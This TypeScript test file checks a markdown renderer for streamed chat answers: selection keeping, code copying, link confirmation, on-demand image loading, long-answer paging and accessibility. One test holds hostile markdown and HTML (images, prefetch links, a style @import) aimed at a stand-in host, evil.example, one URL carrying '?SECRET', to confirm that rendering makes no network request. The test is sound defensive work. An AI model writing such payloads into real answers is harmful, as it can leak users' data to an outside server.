import {expect} from '@open-wc/testing';
import type {Clock} from '../../src/contract/clock.js';
import {bodyKo} from '../../src/i18n/body-messages.js';
import {createMarkdownBody, MAX_LENGTH, type MarkdownBody, type MarkdownBodyOptions} from '../../src/markdown/body.js';
import {bodyStyles} from '../../src/markdown/styles.js';
import {base} from '../../src/theme/base.js';

/** A clock whose hands the test moves. */
class Hands implements Clock {
  #time = 0;
  #tasks: {at: number; task: () => void}[] = [];
  readonly now = (): number => this.#time;
  readonly random = (): number => 0.5;
  readonly frame = (task: () => void): (() => void) => this.setTimeout(task, 16);

  setTimeout(task: () => void, ms: number): () => void {
    const entry = {at: this.#time + ms, task};
    this.#tasks.push(entry);
    return () => { this.#tasks = this.#tasks.filter((other) => other !== entry); };
  }

  get waiting(): number {
    return this.#tasks.length;
  }

  move(ms: number): void {
    this.#time += ms;
    for (let due = this.#due(); due; due = this.#due()) {
      this.#tasks = this.#tasks.filter((other) => other !== due);
      due.task();
    }
  }

  #due(): {at: number; task: () => void} | undefined {
    return this.#tasks.find(({at}) => at <= this.#time);
  }
}

describe('the body of an answer', () => {
  let host: HTMLElement;
  let root: ShadowRoot;
  let clock: Hands;
  let body: MarkdownBody;

  function make(options: Partial<MarkdownBodyOptions> = {}): void {
    const place = root.appendChild(document.createElement('div'));
    body = createMarkdownBody(place, {messages: bodyKo, headingLevel: 3, clock, ...options});
  }

  function show(text: string, streaming = false): void {
    body.update(text, {streaming});
    while (clock.waiting > 0 && !streaming) clock.move(1000);
  }

  const find = <T extends HTMLElement>(selector: string): T => root.querySelector<T>(selector)!;

  beforeEach(() => {
    host = document.body.appendChild(document.createElement('div'));
    root = host.attachShadow({mode: 'open'});
    root.adoptedStyleSheets = [...base, bodyStyles].map(({styleSheet}) => styleSheet!);
    clock = new Hands();
  });

  afterEach(() => {
    body.dispose();
    host.remove();
  });

  it('keeps a selection in a settled block while the rest of the answer is written', () => {
    make();
    const text = '첫 **문단**입니다.\n\n둘째 문단이 자랍니다 그리고 계속 자랍니다 아주 오래.';
    show(text.slice(0, 20), true);
    const range = document.createRange();
    range.selectNodeContents(find('p'));
    document.getSelection()!.setBaseAndExtent(range.startContainer, range.startOffset, range.endContainer, range.endOffset);
    for (let end = 21; end <= text.length; end++) show(text.slice(0, end), true);
    show(text);
    expect(document.getSelection()!.toString()).to.equal('첫 문단입니다.');
  });

  it('keeps the nodes of the block that grows', () => {
    make();
    show('하나 **둘** 셋', true);
    const [paragraph, strong] = [find('p'), find('strong')];
    show('하나 **둘** 셋 넷 [다섯](https://a.example)', true);
    show('하나 **둘** 셋 넷 [다섯](https://a.example)');
    expect([find('p'), find('strong')]).to.deep.equal([paragraph, strong]);
    expect(find<HTMLAnchorElement>('a').href).to.equal('https://a.example/');
  });

  it('goes on when another script wraps every text node', () => {
    make();
    const text = '# 제목\n\n문단 **굵게** 끝\n\n```ts\nconst a = 1;\n```\n\n| a |\n|---|\n| 1 |\n\n마지막 문단';
    for (let end = 1; end <= text.length; end += 3) {
      show(text.slice(0, end), true);
      const walker = document.createTreeWalker(find('.body'), NodeFilter.SHOW_TEXT);
      const texts: Node[] = [];
      while (walker.nextNode()) texts.push(walker.currentNode);
      for (const node of texts) {
        const font = document.createElement('font');
        node.parentNode!.replaceChild(font, node);
        font.append(node.textContent ?? '');
      }
    }
    show(text);
    expect(find('.body').textContent).to.include('마지막 문단');
  });

  it('tells the language of the text and the direction of each block', () => {
    make();
    show('안녕하세요.\n\nשלום עולם');
    expect(find('.body').lang).to.equal('ko');
    expect([...root.querySelectorAll('p')].map((paragraph) => getComputedStyle(paragraph).direction)).to.deep.equal(['ltr', 'rtl']);
    expect(getComputedStyle(find('p')).wordBreak).to.equal('keep-all');
  });

  it('scrolls a wide table and long code by themselves, never the message', () => {
    host.style.inlineSize = '320px';
    make();
    show(`|${'아주긴머리글이름입니다|'.repeat(20)}\n|${'-|'.repeat(20)}\n|${'값|'.repeat(20)}\n\n\`\`\`\n${'x'.repeat(500)}\n\`\`\`\n\n${'가'.repeat(2000)}`);
    expect(host.scrollWidth).to.equal(320);
    for (const scroller of root.querySelectorAll<HTMLElement>('.table, pre')) {
      expect(scroller.scrollWidth).to.be.greaterThan(scroller.clientWidth);
      expect(scroller.tabIndex).to.equal(0);
    }
  });

  it('copies code without a word of ours and says that it did', async () => {
    let copied = '';
    make({copy: (text) => Promise.resolve(text).then((given) => { copied = given; return true; })});
    show('```ts\nconst a = 1;\n\nconst b = 2;\n```');
    find('.copy').click();
    await Promise.resolve();
    await Promise.resolve();
    await Promise.resolve();
    expect(copied).to.equal('const a = 1;\n\nconst b = 2;\n');
    expect(find('.copy').textContent).to.include('복사했어요');
    clock.move(2000);
    expect(find('.copy').textContent).to.include('코드 복사');
  });

  it('asks before a link opens', () => {
    const asked: string[] = [];
    make({openLink: (href) => { asked.push(href); return false; }});
    show('[**문서**](https://a.example/x)');
    const event = new MouseEvent('click', {bubbles: true, cancelable: true, composed: true});
    find('a strong').dispatchEvent(event);
    expect(asked).to.deep.equal(['https://a.example/x']);
    expect(event.defaultPrevented).to.equal(true);
  });

  it('fetches a picture only when its button is pressed, and keeps the focus', async () => {
    const asked: string[] = [];
    make({loadImage: ({url, alt}) => {
      asked.push(url);
      const image = document.createElement('canvas');
      image.tabIndex = 0;
      image.setAttribute('role', 'img');
      image.setAttribute('aria-label', alt);
      return Promise.resolve(image);
    }});
    show('![고양이](https://img.example/cat.png)');
    expect(asked).to.deep.equal([]);
    find('.load').focus();
    find('.load').click();
    await Promise.resolve();
    await Promise.resolve();
    expect(asked).to.deep.equal(['https://img.example/cat.png']);
    expect(find('.image').children.length).to.equal(1);
    expect(root.activeElement).to.equal(find('canvas'));
  });

  it('offers a link with the host when the picture cannot be had', async () => {
    make({loadImage: () => Promise.reject(new Error('refused'))});
    show('![고양이](https://img.example/cat.png)');
    find('.load').click();
    await Promise.resolve();
    await Promise.resolve();
    expect(find('.image').textContent).to.equal('고양이이미지 열기 (img.example) (새 창)');
    expect(find<HTMLAnchorElement>('.image a').rel).to.equal('noopener noreferrer');
  });

  it('makes no request while it shows, focuses and scrolls hostile text', async () => {
    make({loadImage: () => Promise.resolve(undefined)});
    const before = performance.getEntriesByType('resource').length;
    show('![x](https://evil.example/p?SECRET)\n\n![r]\n\n[r]: https://evil.example/p\n\n<img src="https://evil.example/p">\n\n<link rel=prefetch href="https://evil.example">\n\n'
      + '<style>@import "https://evil.example/x.css"</style>\n\n[x](https://evil.example/y)\n\n![x](//evil.example/z)');
    for (const control of root.querySelectorAll<HTMLElement>('a, button')) control.focus();
    find('.body').scrollIntoView();
    await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
    expect(performance.getEntriesByType('resource').slice(before).map(({name}) => name).filter((name) => name.includes('evil'))).to.deep.equal([]);
    expect(root.querySelectorAll('img, style, link, script, iframe, svg, form').length).to.equal(0);
  });

  it('draws a long answer in steps and keeps what is over a megabyte behind a button', async () => {
    make();
    const text = '문단입니다. '.repeat(20).concat('\n\n').repeat(Math.ceil((MAX_LENGTH + 100_000) / 142));
    body.update(text, {streaming: false});
    const first = find('.body').textContent!.length;
    expect(first).to.be.lessThan(20_000);
    while (clock.waiting > 0) clock.move(0);
    await body.complete;
    expect(find('.body').textContent!.length).to.be.within(first * 20, MAX_LENGTH + 10);
    find('.more').click();
    while (clock.waiting > 0) clock.move(0);
    expect(root.querySelector('.more')).to.equal(null);
  });

  it('ends its timers and listeners and leaves nothing behind', () => {
    make({copy: () => Promise.resolve(true)});
    body.update('문단입니다.\n\n'.repeat(20_000), {streaming: false});
    expect(clock.waiting).to.equal(1);
    body.dispose();
    expect(clock.waiting).to.equal(0);
    expect(root.querySelector('.body')).to.equal(null);
  });

  for (const scheme of ['light', 'dark']) {
    it(`has no accessibility fault in ${scheme}`, async () => {
      host.style.colorScheme = scheme;
      host.style.background = scheme === 'dark' ? '#1c1b19' : '#fff';
      make({copy: () => Promise.resolve(true), loadImage: () => Promise.resolve(undefined)});
      show('# 제목\n\n### 소제목\n\n문단 **굵게** `코드` [문서](https://a.example) [b.example](https://c.example)\n\n- [x] 한 일\n- [ ] 할 일\n\n1. 하나\n2. 둘\n\n'
        + '```ts\nconst a = 1;\n```\n\n```\nb\n```\n\n| 이름 | | 값 |\n|:--|:-:|--:|\n| 가 | 나 | 1 |\n\n> 인용\n\n![그림](https://img.example/a.png)\n\n---\n\n끝');
      await expect(host).to.be.accessible({ignoredRules: ['region', 'page-has-heading-one']});
    });
  }
});
